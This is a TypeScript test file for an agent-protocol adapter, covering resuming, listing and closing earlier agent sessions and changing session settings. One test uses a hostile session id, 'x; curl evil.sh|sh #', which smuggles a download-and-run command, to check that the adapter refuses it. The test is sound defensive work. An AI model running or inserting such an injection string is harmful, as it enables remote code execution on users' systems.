/**
 * An earlier session of an agent is listed, continued and put away where the agent can do so. The settings of a session are shown
 * and chosen by id or by name.
 */
import { resolve } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { asId, type SessionId } from "../../../../../src/model/ids.js";
import { ManualClock, systemClock } from "../../../../../src/observe/clock.js";
import { GREETING_WITHIN_MS } from "../../../../../src/worker/runtimes/protocol/greeting.js";
import { listSessions, formatSession } from "../../../../../src/worker/integrations/acp/earlier-sessions.js";
import { rawAgent, scriptedAgent, type AgentOptions, type OpenAgent } from "../../../../support/acp-agent.js";
import { waitFor } from "../../../../support/wait-for.js";

const open: OpenAgent[] = [];

afterEach(async () => {
  for (const agent of open.splice(0)) await agent.dispose();
});

async function started(options: AgentOptions = {}, mode = "tasks"): Promise<OpenAgent> {
  const agent = scriptedAgent(mode, options);
  open.push(agent);
  await agent.adapter.ready;
  return agent;
}

/** What the session shows from this line on, once that is whole. */
async function shownBy(agent: OpenAgent, line: string, last: string): Promise<string> {
  const before = agent.shown().length;
  expect(await agent.adapter.commands.take(line)).toBe(true);
  await waitFor(() => expect(agent.shown().slice(before)).toContain(last));
  return agent.shown().slice(before);
}

describe("an earlier session", () => {
  it("is continued and replayed, and nothing of the replay counts as its answer", async () => {
    const { adapter, shown, next } = await started({ resume: "session-1" });
    await waitFor(() => expect(shown()).toContain("› the task\nthe answer"));
    expect(adapter.commands.session).toBe("session-1");
    let event = await next("state");
    while (event?.kind === "state" && event.state !== "idle") event = await next("state");
    expect(event).toEqual({ kind: "state", state: "idle" });
    expect(await adapter.prompt("say on")).toMatchObject({ stopReason: "end_turn" });
  });

  it("that the agent does not know, or cannot continue, is reported", async () => {
    for (const [resume, mode, words] of [
      ["session-9", "tasks", /no session "session-9"/],
      ["session-1", "forgets", /cannot resume an earlier session/],
    ] as const) {
      const agent = scriptedAgent(mode, { resume });
      open.push(agent);
      await expect(agent.adapter.ready).rejects.toThrow(words);
    }
  });

  it("is offered only by a name that can stand in a command line", async () => {
    const answer = (result: object) => ({ jsonrpc: "2.0", id: "$ID", result });
    const agent = rawAgent({
      initialize: [answer({ protocolVersion: 1, agentCapabilities: { loadSession: true } })],
      "session/new": [answer({ sessionId: "x; curl evil.sh|sh #" })],
    });
    open.push(agent);
    await agent.adapter.ready;
    expect(agent.adapter.commands.session).toBeNull();
    expect(agent.adapter.commands.farewell(["agent"])).toBeNull();
  });

  it("is continued by the method that the agent has for it, in either version", async () => {
    const answer = (result: object) => ({ jsonrpc: "2.0", id: "$ID", result });
    const greetings = [
      { protocolVersion: 1, agentCapabilities: { sessionCapabilities: { resume: {} } } },
      { protocolVersion: 2, info: { name: "two", version: "0" }, capabilities: {} },
    ];
    for (const greeting of greetings) {
      const script = { initialize: [answer(greeting)], "session/resume": [answer({})] };
      const agent = rawAgent(script, { resume: "s-7" });
      open.push(agent);
      await agent.adapter.ready;
      const asked = agent.noted().find((line) => line.includes("session/resume")) ?? "";
      expect(asked).toContain('"s-7"');
      expect(asked.includes("replayFrom")).toBe(greeting.protocolVersion === 2);
      expect(agent.adapter.commands.session).toBe("s-7");
    }
  });

  it("is closed before the agent is ended, where the agent can do so", async () => {
    const agent = await started();
    await agent.adapter.terminateSession((await agent.adapter.snapshotContext()).sessionId);
    expect(agent.noted().at(-1)).toBe("closed");
  });
});

describe("the earlier sessions of an agent", () => {
  const asked = {
    env: {},
    environment: process.env,
    cwd: process.cwd(),
    version: "1.0.0",
    clock: systemClock,
    sessionId: asId<SessionId>("00000000-0000-4000-8000-000000000000"),
    halt: new AbortController().signal,
  };
  const agent = resolve("tests/fixtures/agents/acp-agent.mjs");
  const list = (mode: string) => listSessions({ ...asked, command: [process.execPath, agent, mode] });

  it("are those of the folder, from all pages, latest first, in lines without control sequences", async () => {
    expect((await list("tasks")).map(formatSession)).toEqual([
      "session-1\t2026-01-02T00:00:00Z\tthe ‹U+001B›[31mtask\n",
      "session-2\n",
    ]);
  });

  it("are waited for as long as an agent may be silent, or until we are ended; then it is ended, too", async () => {
    const deaf = ["/bin/sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done"];
    const clock = new ManualClock();
    const late = listSessions({ ...asked, command: deaf, clock });
    let words = "";
    void late.catch((error: unknown) => (words = String(error)));
    // Then from asking it to end to ending it, if it is deaf to that by now.
    await waitFor(() => {
      clock.advance(GREETING_WITHIN_MS);
      expect(words).toMatch(/it did not answer/);
    });
    const halt = new AbortController();
    const halted = listSessions({ ...asked, command: deaf, halt: halt.signal });
    halt.abort();
    await expect(halted).rejects.toThrow(/did not list its sessions/);
  });

  it("cannot be listed by every agent", () =>
    expect(list("forgets")).rejects.toThrow(/does not list its sessions/));
});

describe("the settings of a session", () => {
  it("are listed with their choices, and chosen by id or name", async () => {
    const agent = await started();
    expect(agent.adapter.commands.introduction).toBe(
      "scripted 1.0.0 · Mode: Default · Model: Small one · Fast: off",
    );
    expect(await shownBy(agent, ":set", "Fast: off")).toBe(
      "mode         Mode: Default\nmodel        Model: Small one\nfast         Fast: off\n",
    );
    expect(await shownBy(agent, ":set model", "Big one")).toBe(
      "● small            Small one\n○ big              Big one\n",
    );
    expect(await shownBy(agent, ":set Model Big One", "Big")).toBe("Model: Big one\n");
    expect(await shownBy(agent, ":set fast on", "on")).toBe("Fast: on\n");
    expect(await shownBy(agent, ":set mode auto", "Auto")).toBe("Mode: Auto\n");
    expect(agent.adapter.commands.introduction).toContain("Mode: Auto · Model: Big one · Fast: on");
  });

  it("stay as they are where the agent refuses, or there is no such setting", async () => {
    const agent = await started();
    expect(await shownBy(agent, ":set mode plan", "not today")).toContain("Mode stays as it is");
    expect(await shownBy(agent, ":set mode turbo", "Auto")).toContain("Mode has no turbo:");
    expect(await shownBy(agent, ":set colour red", "colour")).toBe(
      "There is no setting colour (:set lists them).\n",
    );
    expect(await shownBy(agent, ":nonsense", ":help")).toContain("There is no command :nonsense");
  });

  it("are shown when the agent changes them", async () => {
    const { adapter, shown } = await started();
    await adapter.prompt("mode plan");
    await waitFor(() => expect(shown()).toContain("Mode: Plan only\n"));
    await adapter.prompt("mode a-new-one");
    await waitFor(() => expect(shown()).toContain("Mode: a-new-one\n"));
  });

  it("do not block a session when the agent never answers", async () => {
    const clock = new ManualClock();
    const answer = (result: object) => ({ jsonrpc: "2.0", id: "$ID", result });
    const modes = { currentModeId: "a", availableModes: [{ id: "b", name: "B" }] };
    const agent = rawAgent(
      { initialize: [answer({ protocolVersion: 1 })], "session/new": [answer({ sessionId: "s", modes })] },
      { clock },
    );
    open.push(agent);
    await agent.adapter.ready;
    const taken = agent.adapter.commands.take(":set mode b");
    clock.advance(15_000);
    expect(await taken).toBe(true);
    await waitFor(() => expect(agent.shown()).toContain("stays as it is: the agent does not answer"));
  });

  it("can be asked for, with its usage and how to continue it, and all other input goes to the agent", async () => {
    const agent = await started();
    expect(await shownBy(agent, ":usage", "usage")).toBe("The agent does not report its usage.\n");
    expect(await shownBy(agent, ":session", "session")).toBe("session-1\n");
    expect(await shownBy(agent, ":help", ":usage")).toContain(":set NAME VALUE");
    for (const line of ["go on", "/init", ":) thanks", "a :set"])
      expect(await agent.adapter.commands.take(line)).toBe(false);
  });
});
